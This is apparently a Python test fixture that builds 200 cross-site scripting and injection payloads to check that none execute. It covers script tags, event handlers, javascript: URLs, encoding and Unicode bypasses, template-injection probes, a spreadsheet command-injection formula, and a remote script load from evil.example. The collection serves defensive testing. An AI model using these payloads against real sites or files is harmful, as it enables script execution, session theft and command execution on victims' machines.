"""Two hundred texts that try to run something in a page, each with an alert that must never show."""

_SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example></script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>", "<script type=module>alert(1)</script>", "<script/x>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "'\"><script>alert(1)</script>", "</option></select><script>alert(1)</script>", "</mark></p><script>alert(1)</script>",
]  # fmt: skip
_HANDLERS = [
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter", "onwheel", "onbeforeinput",
]  # fmt: skip
_ELEMENTS = [
    "<img src=x {}=alert(1)>", "<svg {}=alert(1)>", "<body {}=alert(1)>", "<input autofocus {}=alert(1)>", "<details open {}=alert(1)>x</details>",
    "<video><source {}=alert(1)></video>", "<iframe {}=alert(1)></iframe>", "<marquee {}=alert(1)>x</marquee>",
]  # fmt: skip
_ATTRIBUTES = ['" {}="alert(1)', "' {}='alert(1)", "` {}=`alert(1)", '"><img src=x {}=alert(1)>']
_ADDRESSES = [
    "<a href=javascript:alert(1)>click</a>", "<a href='java\tscript:alert(1)'>x</a>", "<iframe src=javascript:alert(1)></iframe>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<math href=javascript:alert(1)>x</math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><script>alert(1)</script></svg>", "<svg><set onbegin=alert(1)></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>", "<style>@import 'javascript:alert(1)'</style>", "<div style='background:url(javascript:alert(1))'>x</div>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "data:text/html,<script>alert(1)</script>",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*7 }} {{ config }}", "{% for x in range(9) %}{{ x }}{% endfor %}", "{{ ''.__class__.__mro__ }}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{constructor.constructor('alert(1)')()}}",
    "[[${alert(1)}]]", "@(alert(1))", "{{= alert(1) }}", "${{alert(1)}}", "*{alert(1)}",
]  # fmt: skip
_ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "<ſcript>alert(1)</ſcript>", "<script\u200b>alert(1)</script\u200b>",
    "<\u200bscript>alert(1)</script>", "\u202e>tpircs/<)1(trela>tpircs<", "\u2066<img src=x onerror=alert(1)>\u2069", "<img\u00a0src=x\u00a0onerror=alert(1)>", "<img src=x onerror\u200d=alert(1)>",
    "\ufeff<script>alert(1)</script>", "<img src=x onerror=&#97;lert(1)>", "<svg/onload=&#x61;lert(1)>", "<img src=x onerror=\\u0061lert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script>alert(1)</script>\u2029", "<plaintext><script>alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)>-->",
    "<textarea><img src=x onerror=alert(1)></textarea>", "<xmp><img src=x onerror=alert(1)></xmp>",
]  # fmt: skip
PAYLOADS = [
    *_SCRIPTS,
    *(element.format(handler) for element in _ELEMENTS for handler in _HANDLERS),
    *(attribute.format(handler) for attribute in _ATTRIBUTES for handler in _HANDLERS),
    *_ADDRESSES, *_TEMPLATES, *_ENCODED,
    *(f"=cmd|' /C calc'!A{n} <img src=x onerror=alert({n})>" for n in range(8)),
]  # fmt: skip
